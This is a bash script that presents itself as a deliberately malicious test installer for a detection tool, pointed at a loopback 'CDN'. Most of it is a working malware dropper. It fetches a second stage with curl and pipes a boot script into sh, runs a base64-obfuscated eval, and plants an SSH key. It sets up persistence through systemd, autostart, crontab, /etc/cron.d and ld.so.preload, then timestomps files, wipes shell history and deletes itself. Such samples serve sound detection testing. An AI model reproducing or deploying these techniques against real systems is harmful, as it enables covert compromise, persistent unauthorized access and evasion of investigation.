#!/bin/bash
# metrics-agent installer (test program for rundown: malicious on purpose, loopback only).
# Downloads stage 2 from the "CDN" (127.0.0.1:8081), pipes a boot script into sh, runs an
# obfuscated command, installs persistence (authorized_keys, systemd user unit, XDG
# autostart, crontab, /etc/cron.d, /etc/ld.so.preload), timestomps, starts stage 2 as a
# detached daemon, wipes shell history and deletes itself.
CDN=http://127.0.0.1:8081
echo "[*] metrics-agent installer $$"

# anti-analysis / environment checks
tracer=0
while read -r k v; do [ "$k" = "TracerPid:" ] && tracer=$v; done < /proc/$$/status
[ "$tracer" != 0 ] && echo "[!] tracer $tracer present, continuing anyway"
[ -f /.dockerenv ] && echo "[!] docker"
cat /sys/class/dmi/id/product_name 2>/dev/null || echo "[*] no DMI"

# stage 2 and a boot script from the CDN
curl -fsS "$CDN/stage2.sh" -o /tmp/.ma-stage2.sh
chmod 755 /tmp/.ma-stage2.sh
curl -fsS "$CDN/boot.sh" | sh
eval "$(echo 'ZWNobyAiWypdIGhvc3QgJChob3N0bmFtZSkgdXNlciAkKGlkIC11bikiCg==' | base64 -d)"

# persistence
mkdir -p ~/.ssh ~/.config/systemd/user ~/.config/autostart
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE1ZVEVTVEtFWU5PVFJFQUxOT1RSRUFMTk9UUkVBTDAw ops@metrics" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
cat > ~/.config/systemd/user/metrics-agent.service <<UNIT
[Unit]
Description=metrics agent
[Service]
ExecStart=/tmp/.ma-stage2.sh
Restart=always
[Install]
WantedBy=default.target
UNIT
printf '[Desktop Entry]\nType=Application\nName=metrics\nExec=/tmp/.ma-stage2.sh\n' > ~/.config/autostart/metrics.desktop
(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.ma-stage2.sh") | crontab - || echo "[!] no crontab"
echo "*/5 * * * * root /tmp/.ma-stage2.sh" > /etc/cron.d/metrics-agent || echo "[!] cron.d denied"
echo "/tmp/.ma.so" >> /etc/ld.so.preload || echo "[!] preload denied"

# hide: same mtime as /bin/ls, detached daemon, no history, no installer
touch -r /bin/ls /tmp/.ma-stage2.sh
setsid nohup /tmp/.ma-stage2.sh > /dev/null 2>&1 < /dev/null &
rm -f ~/.bash_history
history -c
rm -f -- "$0"
echo "[*] done"
